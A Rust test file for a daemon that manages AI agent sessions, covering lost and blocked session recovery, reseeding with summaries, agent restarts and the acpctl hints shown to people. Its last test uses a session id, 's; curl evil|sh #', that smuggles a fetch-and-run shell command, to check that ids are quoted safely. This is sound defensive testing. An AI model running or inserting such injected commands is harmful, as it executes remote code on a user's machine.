//! Sessions that do not come back by themselves, and the persons who do something about it.

use acpd_core::ids::ClientId;
use acpd_core::profile::OnLost;
use acpd_core::{HostEvent, Input, StopStep};
use serde_json::{Value, json};

use crate::bench::{Bench, words};
use crate::steps::{hint, reason, text};

/// Error of gemini for a lost session.
const GONE: &str = "No previous sessions found for this project.";

fn refuse_as_gemini(bench: &mut Bench, load: &Value) {
    let error = json!({"code":-32603,"message":"Internal error","data":{"details":GONE}});
    bench.agent_fails(load, &error);
}

/// A used session whose agent died and refuses to load it, for a reason that acpd does not know.
fn blocked(bench: Bench) -> (Bench, ClientId) {
    let (mut bench, client) = bench.only_loading().with_used();
    bench.restart_agent();
    refuse_three_times(&mut bench);
    assert_eq!(bench.state("s"), "blocked");
    (bench, client)
}

fn refuse_three_times(bench: &mut Bench) {
    for _ in 0..3 {
        let load = bench.heard_one("session/load");
        refuse_as_gemini(bench, &load);
        bench.pass(1_500);
    }
}

fn ask(bench: &mut Bench, client: ClientId, method: &str, params: &Value) -> Value {
    bench.ask(client, "ask", method, params);
    bench.answer(client, "ask")
}

fn reseed(bench: &mut Bench, client: ClientId, discard: bool) -> Value {
    let params = json!({"ref":{"session":"s"},"discard":discard});
    ask(bench, client, "_acpd/session/reseed", &params)
}

/// A session that its agent no longer knows, and that is not continued.
fn lost() -> (Bench, ClientId) {
    let mut bench = Bench::with(|profile| profile.on_lost = OnLost::Stop);
    let (client, load) = bench.loading("s");
    bench.agent_refuses(&load, -32002);
    (bench, client)
}

/// Plays the new session up to the prompt, which has a summary before it.
fn goes_on_with_a_summary(bench: &mut Bench, id: &str) -> Value {
    bench.answers("session/new", &json!({"sessionId":id}));
    let prompt = bench.expect_summary();
    assert_eq!(prompt["params"]["sessionId"], id);
    prompt
}

/// Sends a prompt that goes to a new session, with a summary.
fn prompt_again(bench: &mut Bench, client: ClientId) {
    bench.prompt(client, &json!("again"), "s", "go on");
    goes_on_with_a_summary(bench, "t");
}

#[test]
fn what_fails_for_an_unknown_reason_goes_on_with_a_summary_when_a_person_says_so() {
    let (mut bench, plain) = blocked(Bench::with_shims());
    let noticed = bench.noticed();
    // The next prompt tries again, and its error names the way out.
    bench.got(plain);
    bench.prompt(plain, &json!(2), "s", "and now?");
    refuse_three_times(&mut bench);
    let got = bench.got(plain);
    assert_eq!(reason(&got[0]), "session_blocked");
    let message = got[0]["error"]["message"].as_str().expect("a message");
    assert!(message.contains(GONE), "the agent's own words: {message}");
    assert!(hint(&got[0]).contains("the next prompt tries again"), "{}", hint(&got[0]));
    assert!(hint(&got[0]).contains("`acpctl session reseed s`"), "{}", hint(&got[0]));
    let shown = bench.show("s");
    assert!(shown["hint"].as_str().expect("a hint").contains("`acpctl session reseed s`"));

    bench.ask(noticed, 1, "_acpd/session/attach", &json!({"ref":{"session":"s"}}));
    refuse_three_times(&mut bench);
    bench.got(noticed);
    let info = reseed(&mut bench, plain, false)["result"].clone();
    assert_eq!((&info["state"], &info["restore"]), (&json!("parked"), &json!("reseeded")));
    assert!(info["reason"].as_str().expect("why").contains("a person gave it up"), "{info}");
    assert_eq!(info["hint"], Value::Null, "nobody has to do anything");
    let told = bench.find(noticed, "_acpd/notice");
    assert!(told["params"]["text"].as_str().expect("text").contains("is given up"));
    assert_eq!(bench.heard(), Vec::<Value>::new(), "nothing is made that nobody has asked for");
    // The decision is on disk, and the agent is no longer asked.
    bench.reboot();
    let (plain, noticed) = (bench.plain(), bench.noticed());
    bench.join(plain, "s");
    bench.join(noticed, "s");
    assert_eq!(bench.heard(), Vec::<Value>::new());
    bench.prompt(plain, &json!(3), "s", "go on");
    let prompt = goes_on_with_a_summary(&mut bench, "t");
    let got = bench.got(plain);
    assert_eq!(words(&got), ["agent_message_chunk"], "the banner");
    assert!(text(&got[0]).contains("a person gave it up (it could not be loaded"), "{got:?}");
    assert_eq!(bench.find(noticed, "_acpd/restored")["params"]["level"], "reseeded");
    // From here on it is a session like any other.
    bench.chunk("t", "here");
    bench.end_turn(&prompt);
    bench.restart_agent();
    assert_eq!(bench.heard_one("session/load")["params"]["sessionId"], "t");
}

#[test]
fn an_error_that_means_gone_is_known_by_the_configuration() {
    for pattern in ["no previous sessions", "-32603"] {
        let bench = Bench::with(|profile| profile.gone_errors = vec![pattern.to_owned()]);
        let (mut bench, a) = bench.only_loading().with_used();
        bench.prompt_after_crash(a, 2, "s", "and now?");
        let load = bench.heard_one("session/load");
        refuse_as_gemini(&mut bench, &load);
        goes_on_with_a_summary(&mut bench, "t");
        let got = bench.got(a);
        let text = text(&got[0]);
        assert!(text.contains("the agent does not know it") && text.contains(GONE), "{text}");
    }
}

#[test]
fn an_error_that_wants_a_login_does_not_mean_gone() {
    let mut bench = Bench::with(|profile| {
        profile.gone_errors = vec!["-32603".to_owned()];
        profile.auth_errors = vec!["no previous".to_owned()];
    });
    let (_, load) = bench.loading("s");
    refuse_as_gemini(&mut bench, &load);
    assert_eq!(bench.state("s"), "blocked");
    let shown = bench.show("s");
    assert!(shown["hint"].to_string().contains("acpctl auth login gem"), "{shown}");
}

#[test]
fn a_lost_session_goes_on_with_a_summary_when_a_person_says_so() {
    let (mut bench, a) = lost();
    assert_eq!(bench.state("s"), "lost");
    bench.got(a);
    bench.prompt(a, &json!(2), "s", "and now?");
    let got = bench.got(a);
    assert!(hint(&got[0]).contains("`acpctl session reseed s`"), "{}", hint(&got[0]));
    assert!(hint(&got[0]).contains("`acpctl agent restart gem`"), "{}", hint(&got[0]));
    assert_eq!(reseed(&mut bench, a, false)["result"]["state"], "parked");
    prompt_again(&mut bench, a);
}

#[test]
fn a_restart_of_its_agent_looks_for_a_lost_session_once_more() {
    let (mut bench, a) = lost();
    bench.ask(a, 1, "_acpd/agent/restart", &json!({"agent":"gem"}));
    bench.agent_dies();
    bench.prompt(a, &json!(2), "s", "and now?");
    bench.bring_back("session/load");
}

#[test]
fn nobody_gives_up_by_mistake_what_an_agent_still_has() {
    let mut bench = Bench::able(&json!({"loadSession":true,"sessionCapabilities":{"close":{}}}));
    let a = bench.plain();
    bench.used_session(a, "s");
    let refused = reseed(&mut bench, a, false);
    assert_eq!(reason(&refused), "invalid");
    assert!(hint(&refused).contains("`acpctl session reseed s --discard`"), "{refused}");
    assert_eq!(bench.state("s"), "live");
    // Nor while a prompt runs, with any params.
    let prompt = bench.start_turn(a, 2, "s", "go");
    let refused = reseed(&mut bench, a, true);
    assert_eq!(reason(&refused), "session_blocked");
    assert!(hint(&refused).contains("`acpctl cancel s`"), "{refused}");
    bench.end_turn(&prompt);
    // An explicit request is granted: the agent's copy is closed.
    assert_eq!(reseed(&mut bench, a, true)["result"]["state"], "parked");
    bench.heard_one("session/close");
    prompt_again(&mut bench, a);
}

#[track_caller]
fn expect_nothing_to_give_up(bench: &mut Bench, client: ClientId) {
    let refused = reseed(bench, client, true);
    assert!(refused["error"]["message"].as_str().expect("text").contains("nothing to give up"));
}

#[test]
fn what_rests_may_still_be_there_and_what_was_never_used_has_nothing_to_give_up() {
    let (mut bench, a) = Bench::begun();
    expect_nothing_to_give_up(&mut bench, a);
    bench.run_turn(a, 1, "s", "go");
    ask(&mut bench, a, "_acpd/session/close", &json!({"session":"s"}));
    assert_eq!(bench.state("s"), "closed");
    assert!(hint(&reseed(&mut bench, a, false)).contains("--discard"));
    reseed(&mut bench, a, true);
    assert_eq!(bench.state("s"), "parked");
    // Once is enough.
    expect_nothing_to_give_up(&mut bench, a);
}

#[test]
fn a_restore_that_goes_on_is_given_up_only_explicitly() {
    let mut bench = Bench::new();
    let (a, load) = bench.loading("s");
    assert!(hint(&reseed(&mut bench, a, false)).contains("--discard"));
    reseed(&mut bench, a, true);
    // The answer comes too late.
    bench.agent_answers(&load, &json!({}));
    assert_eq!(bench.state("s"), "parked");
    prompt_again(&mut bench, a);
}

#[test]
fn a_session_without_its_directory_goes_on_with_a_summary_where_it_was_moved() {
    let (mut bench, a) = Bench::used_and_loadable();
    bench.missing = vec!["/w".to_owned()];
    bench.restart_agent();
    assert_eq!(bench.state("s"), "blocked");
    let info = reseed(&mut bench, a, false)["result"].clone();
    assert_eq!(info["state"], "blocked", "it still waits for that");
    assert!(info["reason"].as_str().expect("why").contains("does not exist"), "{info}");
    assert!(info["hint"].as_str().expect("a hint").contains("acpctl session move s"), "{info}");
    let params = json!({"ref":{"session":"s"},"cwd":"/v"});
    ask(&mut bench, a, "_acpd/session/move", &params);
    prompt_again(&mut bench, a);
}

#[test]
fn a_login_that_a_given_up_session_wants_does_not_bring_the_old_one_back() {
    let (mut bench, a) = blocked(Bench::new());
    reseed(&mut bench, a, false);
    bench.prompt(a, &json!(2), "s", "go on");
    bench.refuses("session/new", -32000);
    assert_eq!(bench.state("s"), "blocked");
    bench.log_in(a);
    prompt_again(&mut bench, a);
}

#[test]
fn a_new_session_that_cannot_be_made_is_tried_again_and_nothing_is_promised_in_vain() {
    let (mut bench, a) = blocked(Bench::new());
    reseed(&mut bench, a, false);
    bench.got(a);
    bench.prompt(a, &json!(2), "s", "go on");
    bench.refuses("session/new", -32603);
    let error = bench.answer(a, 2);
    assert!(hint(&error).ends_with("the next prompt tries again"), "{}", hint(&error));
    assert_eq!(bench.state("s"), "blocked");
    prompt_again(&mut bench, a);
}

#[test]
fn a_session_that_was_taken_over_and_given_up_is_not_taken_for_an_unused_one() {
    let mut bench = Bench::loadable();
    let a = bench.plain();
    bench.ask(a, 1, "session/load", &json!({"sessionId":"s","cwd":"/w","mcpServers":[]}));
    let load = bench.heard_one("session/load");
    bench.update("s", "user_message_chunk", "go");
    bench.chunk("s", "gone");
    bench.agent_answers(&load, &json!({}));
    reseed(&mut bench, a, true);
    bench.leave(a);
    bench.pass(2 * 24 * 3_600_000);
    assert_eq!(bench.state("s"), "parked");
}

#[test]
fn what_a_subagent_replays_is_a_sign_of_life_of_a_restore() {
    let mut bench = Bench::with(|profile| profile.subagents = true);
    let (_, load) = bench.loading("s");
    let update = json!({"sessionUpdate":"subagent_update","sessionId":"c","title":"Look"});
    bench.send_update("s", &update);
    for _ in 0..5 {
        bench.pass(20_000);
        bench.chunk("c", "a long story");
    }
    assert_eq!(bench.state("s"), "restoring");
    bench.loads(&load, &json!({}));
    assert_eq!(bench.state("s"), "live");
}

/// A process that is there and has not answered `initialize`, and the client that waits for it.
fn starting() -> (Bench, ClientId) {
    let (mut bench, client) = Bench::connecting();
    bench.process_starts();
    (bench, client)
}

/// The first line of the client is an error with this hint.
#[track_caller]
fn expect_hint(bench: &mut Bench, client: ClientId, expected: &str) {
    let got = bench.got(client);
    assert!(hint(&got[0]).contains(expected), "{}", hint(&got[0]));
}

fn agent_hint(bench: &mut Bench) -> String {
    bench.show_agent()["hint"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn a_start_by_a_person_does_not_wait_for_the_next_attempt() {
    let (mut bench, a) = Bench::used();
    bench.agent_dies();
    assert_eq!(bench.agent_state(), "backoff");
    bench.ask(a, 1, "_acpd/agent/start", &json!({"agent":"gem"}));
    assert_eq!(bench.agent_state(), "ready");
}

#[test]
fn an_agent_that_failed_tells_the_command_that_starts_it_again() {
    let (mut bench, a) = starting();
    bench.answers("initialize", &json!({"protocolVersion":99,"agentCapabilities":{}}));
    bench.agent_dies();
    assert_eq!(bench.agent_state(), "failed");
    bench.pass(3_600_000);
    assert_eq!(bench.spawned.len(), 1, "it is not tried again by itself");
    assert!(agent_hint(&mut bench).contains("`acpctl agent start gem`"));
    bench.capabilities = Some(json!({}));
    bench.ask(a, 1, "_acpd/agent/start", &json!({"agent":"gem"}));
    assert_eq!(bench.agent_state(), "ready");
    assert_eq!(agent_hint(&mut bench), "");
}

#[test]
fn an_agent_that_a_person_has_stopped_tells_the_command_that_starts_it_again() {
    let (mut bench, a) = Bench::used();
    bench.ask(a, 1, "_acpd/agent/stop", &json!({"agent":"gem"}));
    bench.agent_dies();
    bench.got(a);
    bench.prompt(a, &json!(2), "s", "go");
    expect_hint(&mut bench, a, "`acpctl agent start gem`");
    assert!(agent_hint(&mut bench).contains("`acpctl agent start gem`"));
    bench.ask(a, 3, "_acpd/agent/start", &json!({"agent":"gem"}));
    bench.prompt(a, &json!(4), "s", "go");
    bench.bring_back("session/resume");
}

#[test]
fn a_start_that_takes_its_time_is_ended_by_a_stop() {
    let (mut bench, a) = starting();
    let b = bench.connect(&json!({}));
    bench.ask(b, 1, "_acpd/agent/stop", &json!({"agent":"gem"}));
    assert_eq!(bench.stops, [StopStep::CloseStdin]);
    bench.agent_dies();
    assert_eq!(bench.agent_state(), "stopped");
    assert_eq!(reason(&bench.got(a)[0]), "agent_stopped");
}

#[test]
fn a_restart_of_its_agent_ends_the_wait_for_a_new_session() {
    let mut bench = Bench::new();
    let a = bench.noticed();
    bench.ask(a, 1, "session/new", &json!({"cwd":"/w","mcpServers":[]}));
    bench.heard_one("session/new");
    bench.pass(300_000);
    bench.expect_some(a, "_acpd/unanswered");
    bench.ask(a, 2, "_acpd/agent/restart", &json!({"agent":"gem"}));
    bench.agent_dies();
    assert_eq!(reason(&bench.answer(a, 1)), "agent_stopped");
    assert_eq!(bench.agent_state(), "ready");
}

#[test]
fn a_daemon_that_is_told_to_stop_once_more_does_not_wait_for_its_agents() {
    let (mut bench, a) = Bench::new().with_token();
    bench.say(a, &json!({"id":1,"method":"_acpd/daemon/stop"}));
    bench.ask(a, 2, "session/new", &json!({"cwd":"/w","mcpServers":[]}));
    assert!(hint(&bench.answer(a, 2)).contains("`acpctl daemon stop` again"));
    assert!(!bench.exited);
    bench.say(a, &json!({"id":3,"method":"_acpd/daemon/stop"}));
    assert!(bench.exited);
    bench.expect_some(a, "_acpd/daemon/stopped");
}

#[test]
fn a_process_of_the_last_daemon_that_does_not_answer_is_told_and_ended_by_a_restart() {
    let (mut bench, _) = Bench::with_shims().with_used();
    bench.reboot_unadopted();
    let a = bench.plain();
    bench.prompt(a, &json!(2), "s", "and now?");
    bench.pass(60_000);
    let got = bench.got(a);
    assert_eq!(reason(&got[0]), "agent_timeout");
    assert!(hint(&got[0]).contains("`acpctl agent restart gem`"), "{}", hint(&got[0]));
    assert!(agent_hint(&mut bench).contains("`acpctl agent restart gem`"));
    bench.prompt(a, &json!(3), "s", "and now?");
    assert_eq!(reason(&bench.got(a)[0]), "agent_timeout");
    bench.ask(a, 4, "_acpd/agent/restart", &json!({"agent":"gem"}));
    bench.prompt(a, &json!(5), "s", "and now?");
    bench.end_process();
    bench.bring_back("session/resume");
}

#[test]
fn a_process_of_the_last_daemon_that_answers_late_goes_on() {
    let (mut bench, _) = Bench::with_shims().with_used();
    bench.reboot_unadopted();
    bench.pass(60_000);
    bench.adopt();
    assert_eq!(agent_hint(&mut bench), "");
    let a = bench.plain();
    bench.start_turn(a, 2, "s", "and now?");
    bench.pass(3_600_000);
    assert_eq!(bench.stops, []);
}

#[test]
fn a_process_of_the_last_daemon_that_is_lost_after_a_long_silence_is_replaced() {
    let (mut bench, _) = Bench::with_shims().with_used();
    bench.reboot_unadopted();
    let a = bench.plain();
    bench.pass(60_000);
    let host = bench.host();
    bench.feed(Input::Host(host, HostEvent::Lost { reason: "its host was killed".to_owned() }));
    // The turn has ended already.
    assert_eq!(agent_hint(&mut bench), "");
    bench.prompt(a, &json!(2), "s", "and now?");
    assert_eq!(bench.got(a), Vec::<Value>::new());
    bench.feed(Input::Host(host, HostEvent::Gone));
    bench.bring_back("session/resume");
}

/// An id that a shell would read as commands, and that id as one word.
const EVIL: &str = "s; curl evil|sh #";
const QUOTED: &str = "'s; curl evil|sh #'";

#[test]
fn what_an_agent_calls_something_is_one_word_of_a_command() {
    let mut bench = Bench::with(|profile| profile.on_lost = OnLost::Stop).only_loading();
    let a = bench.noticed();
    bench.used_session(a, EVIL);
    let options = json!([{"optionId":"y","name":"Yes","kind":"allow_once"},
        {"optionId":"y; curl evil|sh #","name":"Yes","kind":"allow_once"}]);
    let params = json!({"sessionId":EVIL,"toolCall":{"toolCallId":"t"},"options":options});
    bench.agent_asks("q", "session/request_permission", &params);
    let open = ask(&mut bench, a, "_acpd/interaction/list", &json!({}));
    let id = &open["result"]["interactions"][0]["id"];
    for answer in [json!({"kind":"allow"}), json!({"kind":"option","option":"x"})] {
        let answer = json!({"id":id,"answer":answer});
        let refused = ask(&mut bench, a, "_acpd/interaction/answer", &answer);
        assert!(hint(&refused).ends_with("'y; curl evil|sh #'`"), "{refused}");
    }

    let more = json!({"sessionId":EVIL,"prompt":[{"type":"text","text":"more"}]});
    let refused = ask(&mut bench, a, "_session/steering", &more);
    assert!(hint(&refused).contains(&format!("acpctl run -s {QUOTED} …")), "{refused}");
    assert!(hint(&refused).contains(&format!("acpctl cancel {QUOTED}`")), "{refused}");
    let discard = json!({"ref":{"session":EVIL}});
    let refused = ask(&mut bench, a, "_acpd/session/reseed", &discard);
    assert!(hint(&refused).contains(&format!("reseed {QUOTED} --discard")), "{refused}");

    bench.prompt(a, &json!(2), EVIL, "go");
    bench.got(a);
    bench.agent(&json!({"method":"$/cancel_request","params":{"requestId":"q"}}));
    bench.pass(600_000);
    let stalled = bench.got(a);
    let mut told = stalled.iter().filter_map(|line| line["params"]["text"].as_str());
    assert!(told.any(|text| text.contains(&format!("cancel {QUOTED}`"))), "{stalled:?}");

    bench.prompt_after_crash(a, 3, EVIL, "go on");
    let heard = bench.heard();
    let load = heard.iter().find(|line| line["method"] == "session/load").expect("asked for");
    bench.agent_refuses(load, -32002);
    bench.prompt(a, &json!(4), EVIL, "and now?");
    let refused = bench.answer(a, 4);
    assert!(hint(&refused).contains(&format!("`acpctl session reseed {QUOTED}`")), "{refused}");
}
